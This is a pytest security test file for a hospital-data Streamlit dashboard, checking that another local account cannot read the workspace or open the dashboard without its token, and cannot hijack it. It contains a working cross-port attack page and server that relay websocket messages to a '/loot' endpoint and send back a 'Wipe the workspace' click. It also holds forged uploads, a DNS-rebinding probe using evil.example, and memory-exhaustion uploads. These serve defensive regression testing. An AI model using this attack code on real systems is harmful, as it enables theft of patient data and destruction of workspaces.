"""A shared hospital server: one account per steward, umask 022, home folders 0755. A second local account (made for
the test, removed after it; root only) tries what the security reviews tried: read the owner's workspace, open the
owner's dashboard without its token, reach every route of its server (Streamlit's own included) and upload to it."""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import time
import tomllib
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.accounts import readable_by, require_root, second_account, shared_parent
from tests.helpers import run

pytestmark = pytest.mark.slow  # servers, a second account, Chromium


@pytest.fixture
def debian_umask():
    before = os.umask(0o022)
    yield
    os.umask(before)


@pytest.fixture
def other():
    with second_account() as account:
        yield account


def test_another_account_reads_nothing_in_the_workspace(other, debian_umask):
    parent = shared_parent()  # a home folder every account can traverse
    try:
        workspace = parent / "workspace"
        out = parent / "out"
        out.mkdir()
        made = run("release", "--demo", "clinical", "--level", "1", "--rows", "200", "--out", out / "s.csv",
                   "--note", "for the registry", "--workspace", workspace)
        assert made.returncode == 0, made.stderr
        assert run("ledger", "--demo", "clinical", "--workspace", workspace).returncode == 0
        from tvs_core.projects import Projects
        from tvs_core.storage import Store

        store = Store(workspace)
        Projects(store).create(__import__("tvs_core").load_demo("clinical"), "clinical", "demo:clinical")
        try:
            raise ValueError
        except ValueError:
            store.space.log_unexpected("a test")
        assert readable_by(other, workspace) == []
        store.space.save_upload("cohort.csv", __import__("pandas").DataFrame({"age": [1], "y": [0]}), b"age,y\n1,0\n")
        store.space.access_token()
        kept = {p.relative_to(workspace).as_posix() for p in workspace.rglob("*")}
        assert {"studio.sqlite", "access-token", "uploads/cohort.csv.parquet", "logs/errors.log"} <= kept
        assert any(p.startswith("releases/") for p in kept) and any(p.startswith("data/") for p in kept)
        assert readable_by(other, workspace) == []
        # the release and its manifest, in a folder of the user's that others may list
        assert [p for p in readable_by(other, out) if not p.endswith("(listing)")] == []
    finally:
        shutil.rmtree(parent, ignore_errors=True)


def _other_browser(account, port: int) -> subprocess.Popen:
    """Chromium running as the other account, driven from here through its debugging port: every request it makes
    to the dashboard comes from that account's process."""
    from tests.browser import CHROMIUM, LAUNCH

    profile = account.home / "profile"
    account.command(["mkdir", "-p", str(profile)], check=True)
    return account.popen([CHROMIUM, "--headless", *LAUNCH, f"--user-data-dir={profile}",
                          f"--remote-debugging-port={port}", "about:blank"], stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)


def test_another_account_cannot_open_the_dashboard_without_its_token(other, tmp_path):
    require_root()
    from tests.browser import CEILING, free_port, playwright, running_server

    parent = shared_parent()
    port = free_port()
    browser_process = _other_browser(other, port)
    try:
        with running_server(parent / "workspace") as server, playwright.sync_playwright() as p:
            deadline = time.monotonic() + 300  # a ceiling: Chromium starting on a loaded machine
            while True:
                try:
                    browser = p.chromium.connect_over_cdp(f"http://127.0.0.1:{port}")
                    break
                except Exception:
                    if time.monotonic() > deadline:
                        raise
                    time.sleep(0.5)
            page = browser.contexts[0].new_page()
            page.set_default_timeout(CEILING)
            page.set_default_navigation_timeout(CEILING)
            for path, token in (("", ""), ("choose", ""), ("export", ""), ("", "not-the-token"),
                                ("projects", server.token[:-1])):
                page.goto(server.link(path, token=token))
                page.get_by_text("opens only with its access token").first.wait_for()
                page.wait_for_load_state("load")  # the sign-in page is the whole answer: no script draws more
                body = page.locator("body").inner_text()
                assert "1250 rows" not in body and "Simulated" not in body, body[:400]
                assert page.locator('[data-testid="stFileUploaderDropzoneInput"]').count() == 0
                assert page.locator('[data-testid="stDataFrame"]').count() == 0
                assert page.locator('[data-testid="stSidebarNav"]').count() == 0
                buttons = page.locator("button").all_inner_texts()
                shown = [b.strip() for b in buttons if b.strip()]
                assert set(shown) <= {"Open the dashboard"}, shown
                if token:
                    assert "not right" in body
            page.goto(server.link("", token=""))
            page.get_by_label("Access token").fill(server.token[::-1])
            page.get_by_role("button", name="Open the dashboard").click()
            page.get_by_text("That token is not right").first.wait_for()
            page.goto(server.url)  # the owner's address, copied: the token is all that opens it
            page.get_by_text("1250 rows").first.wait_for()
            assert "token=" not in page.url  # taken once: the address keeps no token, the session is signed in
            browser.close()
    finally:
        os.killpg(browser_process.pid, signal.SIGKILL)
        browser_process.wait()
        shutil.rmtree(parent, ignore_errors=True)


PAGE_NAMES = re.compile(r"\b(choose|common|export|glossary|projects|sensitive|sweep|1 · Data)\b", re.IGNORECASE)
_RECORDER = """
window.__seen = [];
new MutationObserver(() => window.__seen.push(document.documentElement.innerText || ""))
    .observe(document, {childList: true, subtree: true, characterData: true, attributes: true});
document.addEventListener("readystatechange", () => window.__seen.push(document.documentElement.innerText || ""));
"""


def test_no_page_name_shows_before_the_gate_decides(tmp_path):
    """The address without its token, in headless Chromium: every text the page ever held (recorded as it changed)
    and every file the browser was sent. Before the gate, Streamlit's page list ("app, choose, common, …") showed
    for seconds before the sign-in box."""
    from tests.browser import browser_page, running_server

    with running_server(tmp_path / "workspace") as server, browser_page() as page:
        page.add_init_script(_RECORDER)
        answers = []
        page.on("response", lambda response: answers.append((response.url, response.status)))
        for path in ("", "choose", "sweep"):
            page.goto(server.link(path, token=""))
            page.get_by_text("opens only with its access token").first.wait_for()
            page.wait_for_load_state("load")
            seen = page.evaluate("window.__seen.concat([document.documentElement.innerText])")
            shown = {match.group(0).lower() for text in seen for match in PAGE_NAMES.finditer(text)}
            assert shown == set(), f"page names shown before the gate decided: {shown}"
        assert {status for _, status in answers} == {401}, answers  # the sign-in page, and no other file
        assert not [url for url, _ in answers if "/static/" in url or "_stcore" in url], answers


# -- Streamlit's own routes, tried without the token by the other account ------------------------------------------

def _static_file() -> str:
    """A file the Streamlit front end really loads (its main script)."""
    from tests.browser import ROOT

    index = next((ROOT / ".venv").glob("lib/python*/site-packages/streamlit/static/index.html"))
    return "/" + re.search(r'src="\./(static/js/[^"]+)"', index.read_text()).group(1)


ROUTES = ["/", "/choose", "/_stcore/metrics", "/_stcore/host-config", "/_stcore/script-health-check",
          "/_stcore/agent/openapi.json", "/_stcore/agent/interact", "/media/" + "ab" * 28 + ".csv",
          "/component/streamlit_app/index.html", "/_stcore/bidi-components/x/index.js", "/app/static/x.png",
          "/auth/login"]


def _imported_here() -> None:
    """What the other account's code uses, imported before it is forked (it then reads no file of the project's)."""
    import base64  # noqa: F401
    import http.client  # noqa: F401
    import http.server  # noqa: F401
    import json  # noqa: F401
    import socketserver  # noqa: F401

    import streamlit.proto.BackMsg_pb2  # noqa: F401
    import streamlit.proto.ForwardMsg_pb2  # noqa: F401
    import websockets.sync.client  # noqa: F401


def _try_every_route(port: int, routes: list[str]) -> dict:
    """As the other account: each route's status, Set-Cookie and body; the websocket's fate."""
    import http.client

    found = {}
    for path in routes + ["/_stcore/health"]:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        connection.request("GET", path)
        answer = connection.getresponse()
        found[path] = [answer.status, answer.getheader("Set-Cookie"), answer.read().decode(errors="replace")[:3000]]
        connection.close()
    found["websocket"] = _open_session(port, xsrf=None)
    return found


@contextmanager
def _session(port: int, xsrf: str | None):
    """The review's step: a websocket to the server and, through it, a session id (or why there is none); the
    connection stays open inside the ``with``, as the session it made does."""
    from streamlit.proto.BackMsg_pb2 import BackMsg
    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    try:
        socket = connect(f"ws://127.0.0.1:{port}/_stcore/stream", subprotocols=["streamlit", xsrf or "x"],
                         origin=f"http://127.0.0.1:{port}", open_timeout=60,
                         additional_headers={"Cookie": f"_streamlit_xsrf={xsrf}"} if xsrf else None)
    except InvalidStatus as exc:
        yield f"refused {exc.response.status_code}"
        return
    with socket:
        rerun = BackMsg()
        rerun.rerun_script.query_string = ""
        socket.send(rerun.SerializeToString())
        found = "connected, no session id"
        deadline = time.time() + 120
        while time.time() < deadline:
            message = ForwardMsg()
            message.ParseFromString(socket.recv(timeout=120))
            if message.HasField("new_session") and message.new_session.initialize.session_id:
                found = "session " + message.new_session.initialize.session_id
                break
        yield found


def _open_session(port: int, xsrf: str | None) -> str:
    with _session(port, xsrf) as found:
        return found


def test_every_route_of_the_server_refuses_another_account_without_the_token(other, tmp_path):
    """The review's findings, route by route: health gave the XSRF cookie, the websocket a session, /_stcore/metrics
    the owner's upload sizes and sessions. With the gate, the other account gets the sign-in page (no data, no
    cookie) everywhere, "ok" from health, and no session; the owner, with the token, gets every route's own answer."""
    require_root()
    import http.client

    from tests.browser import running_server

    _imported_here()
    parent = shared_parent()
    routes = [*ROUTES, _static_file()]
    try:
        with running_server(parent / "workspace") as server:
            found = other.run(_try_every_route, server.port, routes, timeout=600)
            assert found.pop("websocket") == "refused 403"
            status, cookie, body = found.pop("/_stcore/health")
            assert (status, cookie, body) == (200, None, "ok")
            for path, (status, cookie, body) in found.items():
                assert status == 401 and cookie is None, (path, status, cookie)
                assert "opens only with" in body and "<script" not in body, (path, body[:300])
                assert "session" not in body.lower() and not PAGE_NAMES.search(body), (path, body[:300])
            # the owner, signed in by the address's token: the routes are there, the gate let them through
            signed_in = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
            signed_in.request("GET", f"/?token={server.token}")
            answer = signed_in.getresponse()
            answer.read()
            assert answer.status == 303 and "HttpOnly" in answer.getheader("Set-Cookie")
            cookie = answer.getheader("Set-Cookie").split(";")[0]
            for path in ("/", _static_file(), "/_stcore/host-config"):
                signed_in.request("GET", path, headers={"Cookie": cookie})
                answer = signed_in.getresponse()
                answer.read()
                assert answer.status == 200, (path, answer.status)
            signed_in.close()
    finally:
        shutil.rmtree(parent, ignore_errors=True)


UPLOAD_MB = 150


def _upload_five_times(port: int) -> list:
    """The review's attack: the XSRF cookie from health, a session from the websocket, then five uploads of
    150 MB to that session (whatever the earlier steps gave). Each answer, or how the connection ended."""
    import http.client

    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    connection.request("GET", "/_stcore/health")
    answer = connection.getresponse()
    answer.read()
    cookie = answer.getheader("Set-Cookie") or ""
    xsrf = cookie.split(";")[0].partition("=")[2] or None
    with _session(port, xsrf) as session:
        return [session, *_uploads(port, session, cookie, xsrf)]


def _uploads(port: int, session: str, cookie: str, xsrf: str | None) -> list:
    import http.client

    session_id = session.split()[-1] if session.startswith("session ") else "no-session"
    outcomes = []
    boundary = "tvsboundary"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n"
            "Content-Type: text/csv\r\n\r\n").encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    block = b"0," * (1 << 19)
    for attempt in range(5):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=300)
        try:
            connection.putrequest("PUT", f"/_stcore/upload_file/{session_id}/file-{attempt}")
            connection.putheader("Content-Type", f"multipart/form-data; boundary={boundary}")
            connection.putheader("Content-Length", str(len(head) + UPLOAD_MB * len(block) + len(tail)))
            connection.putheader("X-Xsrftoken", xsrf or "")
            connection.putheader("Cookie", cookie.split(";")[0])
            connection.putheader("Origin", f"http://127.0.0.1:{port}")
            connection.endheaders(head)
            for _ in range(UPLOAD_MB):
                connection.send(block)
            connection.send(tail)
            answer = connection.getresponse()
            outcomes.append(answer.status)
            answer.read()
        except OSError as exc:  # refused before the body was read: the server closed the connection under it
            try:
                answer = connection.getresponse()
                outcomes.append(answer.status)
            except (OSError, http.client.HTTPException):
                outcomes.append(type(exc).__name__)
        finally:
            connection.close()
    return outcomes


def _resident_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"process {pid} is gone")


def test_refused_uploads_do_not_grow_the_owners_server(other, tmp_path):
    """Five 150 MB uploads by the other account, as the review sent them (1 GB of the owner's memory, kept after
    the session closed): refused before their bodies are read, they leave the server within 50 MB of where it was."""
    require_root()
    from tests.browser import running_server

    _imported_here()
    parent = shared_parent()
    try:
        with running_server(parent / "workspace") as server:
            other.run(_try_every_route, server.port, ["/"], timeout=600)  # the server has answered once: warm
            before = _resident_mb(server.process.pid)
            outcomes = other.run(_upload_five_times, server.port, timeout=1800)
            grown = _resident_mb(server.process.pid) - before
            assert grown < 50, f"the owner's server grew by {grown:.0f} MB: {outcomes}"
            assert not outcomes[0].startswith("session"), outcomes
            assert all(outcome != 204 for outcome in outcomes[1:]), outcomes
            assert not list((parent / "workspace").rglob("big.csv*"))
    finally:
        shutil.rmtree(parent, ignore_errors=True)


def _answers(port: int) -> bool:
    import urllib.request

    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=60) as answer:
            return answer.status == 200
    except OSError:
        return False


def test_the_launcher_prints_one_address_with_the_token_once_the_server_answers(tmp_path):
    """A second steward's dashboard: a taken port is refused in one sentence; without --port a free one is taken.
    What the console shows is one address, with the token, printed once the server answers it (before, the
    launcher printed its address before Streamlit had started, and Streamlit its own "URL:" without the token)."""
    import select
    import socket
    import sys

    from tests.helpers import ROOT

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        refused = run("dashboard", "--port", port, "--workspace", tmp_path / "space")
        assert refused.returncode == 2 and f"Port {port} is taken" in refused.stderr
        assert len(refused.stderr.strip().splitlines()) == 1
    elsewhere = tmp_path / "elsewhere"  # started from another folder: the project's settings file still holds
    elsewhere.mkdir()
    import pty

    leader, follower = pty.openpty()  # a terminal: the owner's own console
    process = subprocess.Popen([sys.executable, "-m", "tvs_core", "dashboard", "--workspace", str(tmp_path / "space")],
                               cwd=elsewhere, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=follower,
                               stderr=follower, text=True, start_new_session=True)
    os.close(follower)
    try:
        said = ""
        while "open for you at" not in said or not said.endswith("\n"):
            ready, _, _ = select.select([leader], [], [], 600)
            assert ready and process.poll() is None, said
            said += os.read(leader, 65536).decode(errors="replace").replace("\r\n", "\n")
        lines = said.splitlines()
        opened = next(line for line in lines if "open for you at" in line)
        address = opened.split("open for you at ")[1].strip()
        port = int(address.split(":")[2].split("/")[0])
        assert _answers(port), "the address was printed before the server answered"
        token = (tmp_path / "space" / "access-token").read_text().strip()
        assert address == f"http://127.0.0.1:{port}/?token={token}"
        addresses = [line for line in lines if "http://" in line or "URL:" in line]
        assert addresses == [opened], said  # Streamlit's own "URL: http://127.0.0.1:…" is not printed
        settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
        assert settings["browser"]["gatherUsageStats"] is False  # nothing leaves the machine
        assert Path(f"/proc/{process.pid}/cwd").resolve() == ROOT.resolve()
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        os.close(leader)


def test_a_console_redirected_to_a_file_others_can_read_holds_no_token(tmp_path, debian_umask):
    """The review's finding: ``python -m tvs_core dashboard > dash.log &`` under umask 022 wrote the address with
    the token into a 0644 file, which any account reads in a 0755 home. The log says where the token is kept."""
    import sys

    from tests.helpers import ROOT

    log = tmp_path / "dash.log"
    with open(log, "w") as out:  # 0644: the umask of a Debian account
        process = subprocess.Popen([sys.executable, "-m", "tvs_core", "dashboard", "--workspace",
                                    str(tmp_path / "space")], cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
                                   stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        from tests.helpers import wait_until

        wait_until(lambda: "open for you at" in log.read_text() or process.poll() is not None,
                   "the dashboard says its address", 600)
        said = log.read_text()
        token = (tmp_path / "space" / "access-token").read_text().strip()
        assert "open for you at http://127.0.0.1:" in said and token not in said, said
        assert str(tmp_path / "space" / "access-token") in said
        assert log.stat().st_mode & 0o077  # the file others may read: the very case
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


# -- the third review: a page that another account serves on another port of 127.0.0.1 ------------------------------

ATTACK_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>a page of another account</title></head><body>
<p>Nothing to see here.</p>
<script>
const dashboard = "127.0.0.1:%(port)d";
const report = {opened: false, messages: 0, closed: null, upload: null, read: null, planted: false};
window.__report = report;
const bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
let socket = null;
try {
  socket = new WebSocket("ws://" + dashboard + "/_stcore/stream", ["streamlit", "x"]);
  socket.binaryType = "arraybuffer";
  socket.onopen = () => { report.opened = true; socket.send(bytes("%(rerun)s")); };
  socket.onmessage = (event) => { report.messages += 1; fetch("/loot", {method: "POST", body: event.data}); };
  socket.onclose = (event) => { report.closed = event.code; };
} catch (error) { report.closed = "refused: " + error.name; }
async function relay() {  // what the attacker's server wants sent through the owner's session
  const answer = await fetch("/next");
  const text = await answer.text();
  if (text && socket && socket.readyState === 1) { socket.send(bytes(text)); }
}
async function upload() {
  try {
    const session = await (await fetch("/session")).text();
    const xsrf = decodeURIComponent((document.cookie.match(/_streamlit_xsrf=([^;]+)/) || [])[1] || "");
    const form = new FormData();
    form.append("file", new Blob(["age,y\\n1,0\\n"], {type: "text/csv"}), "planted.csv");
    const answer = await fetch("http://" + dashboard + "/_stcore/upload_file/" + (session || "none") + "/planted",
                               {method: "PUT", body: form, credentials: "include", headers: {"X-Xsrftoken": xsrf}});
    report.upload = answer.status;
  } catch (error) { report.upload = "refused: " + error.name; }
}
async function read() {
  try {
    const answer = await fetch("http://" + dashboard + "/_stcore/host-config", {credentials: "include"});
    report.read = answer.status + " " + (await answer.text()).slice(0, 80);
  } catch (error) { report.read = "refused: " + error.name; }
}
async function finish() {
  await upload();
  await read();
  document.cookie = "%(cookie)s=tossed; path=/_stcore";  // the review's cookie, planted with a longer path
  report.planted = true;
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
const pace = setInterval(async () => {
  await relay();
  const state = await (await fetch("/state")).text();  // the attacker's server says when it has done what it could
  if (state === "done" || (socket && socket.readyState === 3)) { clearInterval(pace); finish(); }
}, 300);
</script></body></html>"""


def _attack_server(port: int, dashboard: int, cookie: str, ceiling: float) -> dict:
    """As the other account: serve the page above on ``port``, collect what it relays from the owner's dashboard
    (ForwardMsgs), and — as the review did — when the Data page's "Wipe the workspace" button comes by, send the
    click back through the owner's session. Returns what it got. Ends when the page reports, or at the ceiling."""
    import base64
    import json
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from streamlit.proto.BackMsg_pb2 import BackMsg
    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

    def rerun(trigger: str | None = None) -> str:
        message = BackMsg()
        message.rerun_script.query_string = ""
        if trigger:
            widget = message.rerun_script.widget_states.widgets.add()
            widget.id, widget.trigger_value = trigger, True
        return base64.b64encode(message.SerializeToString()).decode()

    state = {"loot": [], "queue": [], "session": "", "wipe": None, "finished": 0, "report": None}
    done = threading.Event()

    def take(data: bytes) -> None:
        state["loot"].append(data)
        message = ForwardMsg()
        try:
            message.ParseFromString(data)
        except Exception:  # noqa: BLE001 — not a ForwardMsg
            return
        if message.HasField("new_session"):
            state["session"] = message.new_session.initialize.session_id
        if message.HasField("delta") and message.delta.HasField("new_element"):
            element = message.delta.new_element
            if element.WhichOneof("type") == "button" and element.button.label == "Wipe the workspace" \
                    and state["wipe"] is None:
                state["wipe"] = element.button.id
                state["queue"].append(rerun(element.button.id))
        if message.HasField("script_finished"):
            state["finished"] += 1

    class Attacker(BaseHTTPRequestHandler):
        def _answer(self, body: bytes, kind: str = "text/plain") -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):  # noqa: N802 (http.server's name)
            if self.path == "/attack.html":
                page = ATTACK_PAGE % {"port": dashboard, "rerun": rerun(), "cookie": cookie}
                self._answer(page.encode(), "text/html; charset=utf-8")
            elif self.path == "/next":
                self._answer((state["queue"].pop(0) if state["queue"] else "").encode())
            elif self.path == "/session":
                self._answer(state["session"].encode())
            elif self.path == "/state":  # done: the wipe was sent and a run has finished since
                self._answer(b"done" if state["wipe"] and state["finished"] >= 2 else b"")
            else:
                self._answer(b"")

        def do_POST(self):  # noqa: N802
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.path == "/loot":
                take(body)
            elif self.path == "/report":
                state["report"] = json.loads(body)
                done.set()
            self._answer(b"")

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", port), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    done.wait(ceiling)
    server.shutdown()
    loot = b"".join(state["loot"])
    return {"messages": len(state["loot"]),
            "patient_columns": b"in_hospital_death" in loot or b"total_cost_eur" in loot,
            "sidebar": "rows ×".encode() in loot or b"Dataset:" in loot, "wipe_sent": state["wipe"] is not None,
            "session": state["session"], "report": state["report"]}


@contextmanager
def _interpreter_for(account):
    """The owner's server run as a steward's account must be able to start this interpreter (CI's lives under
    /root, which others cannot traverse): the folders on its path that others cannot enter are opened to traverse
    (x, not read) for the test's length, and closed again."""
    import sys

    opened = []
    try:
        for path in {Path(sys.executable).resolve(), Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()}:
            for folder in [*reversed(path.parents), path]:
                if folder.is_dir() and not folder.stat().st_mode & 0o001:
                    opened.append((folder, folder.stat().st_mode))
                    os.chmod(folder, folder.stat().st_mode | 0o001)
        yield
    finally:
        for folder, mode in reversed(opened):
            os.chmod(folder, mode & 0o7777)


def _owner_of(request):
    """None: the owner's dashboard runs as root, as CI does; otherwise a steward's account of its own."""
    if request.param == "root":
        yield None
        return
    with second_account() as steward, _interpreter_for(steward):
        yield steward


@pytest.fixture(params=["root", "steward"])
def owner(request):
    yield from _owner_of(request)


def test_a_page_on_another_port_reads_nothing_changes_nothing_and_locks_no_one_out(owner, other, tmp_path):
    """The third review, step by step: the owner is signed in to the dashboard in Chromium; another account serves
    a page on another port of 127.0.0.1, which the owner opens in another tab. Ports do not separate sites, so the
    browser sends the owner's cookie with the page's requests. The page opens the dashboard's websocket, asks for
    the Data page, relays every message to its own server, sends back the click of "Wipe the workspace" when it
    sees the button, tries an upload and a read of the server's routes, then plants a cookie of the gate's name with
    a longer path. Before the origin rule, it read the sidebar and the first 50 patient rows and emptied the
    workspace; the planted cookie then locked the owner out. Now: no session, no data, nothing changed, and the
    owner's next visit works. Run with the owner's dashboard as root and as a steward's own account."""
    import threading

    from tests.browser import CEILING, browser_page, free_port, running_server

    _imported_here()
    parent = owner.home if owner is not None else shared_parent()
    workspace = parent / "workspace"
    try:
        with running_server(workspace, account=owner) as server, browser_page() as page:
            page.goto(server.url)
            page.get_by_text("1250 rows").first.wait_for()  # signed in: the owner's Data page
            from tvs_core.gate import cookie_name

            attack_port = free_port()
            got = {}
            attacker = threading.Thread(target=lambda: got.update(other.run(
                _attack_server, attack_port, server.port, cookie_name(server.port), CEILING / 1000,
                timeout=CEILING / 1000 + 60)))
            attacker.start()
            from tests.helpers import wait_until

            wait_until(lambda: _listens(attack_port) or not attacker.is_alive(), "the other account's page is served",
                       CEILING / 1000)
            assert attacker.is_alive(), "the other account's server did not start (see the warning above)"
            tab = page.context.new_page()
            tab.goto(f"http://127.0.0.1:{attack_port}/attack.html")
            attacker.join()
            report = got["report"]
            assert report is not None, got  # the page ran to its end and reported
            assert not report["opened"] and report["messages"] == 0 and got["messages"] == 0, got
            assert not got["patient_columns"] and not got["sidebar"] and not got["wipe_sent"], got
            assert report["upload"] != 204 and not str(report["upload"]).startswith("2"), report
            assert not str(report["read"]).startswith("2"), report
            assert report["planted"]
            # the owner's workspace is whole, and the owner's next visit works despite the planted cookie
            assert (workspace / "studio.sqlite").exists() and (workspace / "access-token").exists()
            assert not list(workspace.rglob("planted*"))
            page.goto(f"http://127.0.0.1:{server.port}/")
            page.get_by_text("1250 rows").first.wait_for()
            page.get_by_role("link", name="2 · Sensitive features").click()  # a new run through the websocket
            page.get_by_role("heading", name="Sensitive").first.wait_for()
            cookies = [c for c in page.context.cookies() if c["name"] == cookie_name(server.port)]
            assert len(cookies) == 2  # the planted one is there, and the owner's still opens the dashboard
    finally:
        if owner is None:
            shutil.rmtree(parent, ignore_errors=True)


def _listens(port: int) -> bool:
    import socket

    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1):
            return True
    except OSError:
        return False


def test_a_request_naming_another_host_is_refused_by_the_running_server(tmp_path):
    """DNS rebinding: a name that points at 127.0.0.1 (evil.example) makes a page same-origin with itself. The
    server answers only to its own address: health, a page and the websocket, with the owner's cookie or without."""
    import http.client

    from tests.browser import running_server
    from tvs_core.gate import cookie_name, cookie_value

    with running_server(tmp_path / "workspace") as server:
        signed_in = f"{cookie_name(server.port)}={cookie_value(server.token)}"
        for path in ("/_stcore/health", "/", "/_stcore/host-config"):
            for cookie in (None, signed_in):
                connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
                headers = {"Host": f"evil.example:{server.port}", **({"Cookie": cookie} if cookie else {})}
                connection.request("GET", path, headers=headers)
                answer = connection.getresponse()
                body = answer.read().decode(errors="replace")
                connection.close()
                assert answer.status == 403 and "own address" in body, (path, cookie, answer.status, body[:200])
        from websockets.exceptions import InvalidStatus
        from websockets.sync.client import connect

        with pytest.raises(InvalidStatus):
            connect(f"ws://127.0.0.1:{server.port}/_stcore/stream", subprotocols=["streamlit"], open_timeout=60,
                    origin=f"http://evil.example:{server.port}",
                    additional_headers={"Host": f"evil.example:{server.port}", "Cookie": signed_in})


def test_a_dashboard_upload_that_decodes_huge_is_refused_and_one_that_fits_is_held_once(tmp_path):
    """The third review's 0.44 MB Parquet file of 2 × 50 M zeros grew the server from 337 MB to 6.9 GB with no message:
    the child parsed it under its cap and handed it back whole. Uploaded on the Data page, it is refused in words
    naming the limit and the server stays within 300 MB of where it was. A table the limits admit (a CSV of 400
    columns × 25 k empty cells: 76 MB once read) opens with the server growing by at most twice its size."""
    from bench.hostile_files import empty_cells, parquet_zeros
    from tests.browser import browser_page, running_server, upload_and_weigh

    zeros = parquet_zeros(tmp_path)
    fits = empty_cells(tmp_path, rows=25_000, columns=400)
    with running_server(tmp_path / "workspace") as server, browser_page() as page:
        page.goto(server.url)
        page.get_by_text("1250 rows").first.wait_for()
        said, _, grown = upload_and_weigh(server, page, zeros)
        assert said.startswith("Could not open zeros.parquet") and "TVS_MAX_ROWS" in said, said
        assert grown <= 300, f"the server grew by {grown:.0f} MB to refuse it"
        page.reload()
        page.get_by_text("1250 rows").first.wait_for()
        said, _, grown = upload_and_weigh(server, page, fits)
        assert said.startswith("empty_cells.csv — 25000 rows × 400 columns"), said
        size = 25_000 * 400 * 8 / 2**20
        assert grown <= 2 * size, f"the server grew by {grown:.0f} MB to open a table of {size:.0f} MB"


def _reading_children(pid: int) -> list[int]:
    """The reading children of a process (``tvs_core.data.reader``'s), by their command line."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            command = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if int(stat.rsplit(")", 1)[1].split()[1]) == pid and b"tvs_core.data.reader" in command:
            found.append(int(entry.name))
    return found


@pytest.fixture(scope="module")
def slow_file(tmp_path_factory):
    """A workbook within every limit that openpyxl takes minutes to parse (built once: it takes a while)."""
    from bench.hostile_files import slow_workbook

    return slow_workbook(tmp_path_factory.mktemp("slow"))


@pytest.mark.xdist_group("slow_file")  # both stops read one workbook, built once, on one worker
@pytest.mark.parametrize("stop", ["SIGTERM", "SIGINT"])
def test_the_reading_child_ends_when_the_dashboard_is_stopped_mid_read(tmp_path, stop, slow_file):
    """Ctrl-C (SIGINT) or SIGTERM to the dashboard while it reads an upload: the server exited, and the child that
    parses (a session of its own) ran on with PPID 1 until its time or memory cap. Now it ends with the server."""
    from tests.browser import browser_page, running_server
    from tests.helpers import wait_until

    slow = slow_file
    with running_server(tmp_path / "workspace") as server, browser_page() as page:
        page.goto(server.url)
        page.get_by_text("1250 rows").first.wait_for()
        page.locator('[data-testid="stFileUploaderDropzoneInput"]').first.set_input_files(str(slow))
        children = wait_until(lambda: _reading_children(server.process.pid), "the upload is being read", 600)
        os.killpg(server.process.pid, getattr(signal, stop))
        server.process.wait(timeout=600)
        server.process = None
        wait_until(lambda: not any(Path(f"/proc/{child}").exists() and
                                   (Path(f"/proc/{child}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z")
                                   for child in children),
                   "the reading child has ended with the dashboard", 60)
